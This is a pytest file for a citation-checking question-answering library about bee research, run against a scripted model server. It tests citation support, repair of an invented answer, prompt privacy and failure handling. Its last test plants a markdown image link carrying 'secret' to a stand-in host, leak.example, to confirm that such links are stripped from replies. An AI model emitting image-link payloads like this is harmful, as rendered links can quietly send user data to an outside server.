"""Answers in a language model's words: checked, repaired once, and quoted where the model fails."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from assistant import Library, to_markdown
from assistant.settings import load
from tests.flows.trace import check_answer
from tests.llm.server import Server, Turn, fails, says

QUESTION = "How many days ahead does the sound of a hive warn of swarming?"
FAITHFUL = "A classifier on the spectrum of hive sounds warns of swarming nine days ahead [1]."
INVENTED = "A classifier on the spectrum of hive sounds warns of swarming 31 days ahead [1][88]."


@pytest.fixture
def ask(bees: Library, bees_folder: Path) -> Iterator[object]:
    """Ask a library whose model is a scripted server; gives the answer and what the server received."""
    opened: list[Library] = []

    def run(question: str, *turns: Turn) -> tuple[object, Server]:
        with Server(*turns) as server:
            settings = load(model="openai:bee", base_url=server.url, timeout=0.5, retries=0)
            opened.append(Library.open(bees_folder, settings=settings))
            return opened[-1].ask(question), server

    yield run
    for library in opened:
        library.close()


def test_a_faithful_reply_is_cited_and_supported_with_one_call(ask, bees: Library) -> None:  # noqa: ANN001
    answer, server = ask(QUESTION, says(FAITHFUL))
    assert answer.model == "openai:bee"
    assert [sentence.support for sentence in answer.sentences] == ["supported"]
    (citation,) = answer.sentences[0].citations
    assert "nine days ahead" in citation.quote
    assert bees.show(citation.paper_id).abstract[citation.start : citation.end] == citation.quote
    assert [(reference.number, reference.paper.id) for reference in answer.references] == [(1, citation.paper_id)]
    assert answer.usage.calls == len(server.requests) == 1


def test_what_is_invented_is_repaired_once_and_else_marked(ask) -> None:  # noqa: ANN001
    repaired, server = ask(QUESTION, says(INVENTED), says(FAITHFUL))
    assert [sentence.support for sentence in repaired.sentences] == ["supported"]
    assert "31" in server.requests[1].texts[1]
    stubborn, _ = ask(QUESTION, says(INVENTED), says(INVENTED))
    (sentence,) = stubborn.sentences
    assert sentence.support in {"partial", "unsupported"}
    assert "[88]" in sentence.reason
    assert "31" in sentence.reason
    assert "31 days" in to_markdown(stubborn), "nothing is removed in silence"


def test_the_model_sees_opaque_markers_and_no_bibliography(ask, bees: Library) -> None:  # noqa: ANN001
    _, server = ask(QUESTION, says(FAITHFUL))
    prompt = json.dumps(server.requests[0].body, ensure_ascii=False)
    for paper in bees.papers():
        assert paper.id not in prompt
        assert paper.key not in prompt
        assert not any(author in prompt for author in paper.authors)
    assert len(prompt) / 4 < 3_500


def test_without_evidence_the_model_is_not_called(ask) -> None:  # noqa: ANN001
    answer, server = ask("Which cathedral has the tallest spire in medieval Europe?")
    assert answer.status == "no_evidence"
    assert server.requests == []


@pytest.mark.parametrize(
    ("turn", "reason"),
    [
        (fails(401), "OPENAI_API_KEY"),
        (fails(404), "bee"),
        (fails(500), "bee"),
        (says("x", first=3.0), "0.5"),
        (says(""), "empty"),
    ],
)
def test_a_model_that_fails_leaves_a_quoted_answer_that_says_why(ask, bees: Library, turn: Turn, reason: str) -> None:  # noqa: ANN001
    answer, _ = ask(QUESTION, turn)
    check_answer(answer, bees)
    assert answer.status == "answered"
    assert answer.model is None
    assert {sentence.support for sentence in answer.sentences} == {"verbatim"}
    assert reason in answer.note
    assert QUESTION not in answer.note


def test_fewer_passages_are_shown_to_a_model_that_reads_less(ask) -> None:  # noqa: ANN001
    too_long = fails(400, code="context_length_exceeded", message="maximum context length is 1024 tokens")
    answer, server = ask(QUESTION, too_long, says(FAITHFUL))
    assert answer.model == "openai:bee"
    first, second = (len(request.texts[1]) for request in server.requests)
    assert second < first


def test_the_model_may_say_that_it_finds_no_evidence(ask) -> None:  # noqa: ANN001
    answer, _ = ask(QUESTION, says("NO EVIDENCE"))
    assert answer.status == "no_evidence"
    assert answer.model == "openai:bee"
    assert not answer.references


def test_links_and_images_of_a_reply_do_not_survive(ask) -> None:  # noqa: ANN001
    answer, _ = ask(QUESTION, says(f"![x](http://leak.example/?q=secret) {FAITHFUL} See [here](http://leak.example)."))
    assert "leak.example" not in to_markdown(answer)
    assert "leak.example" not in answer.text
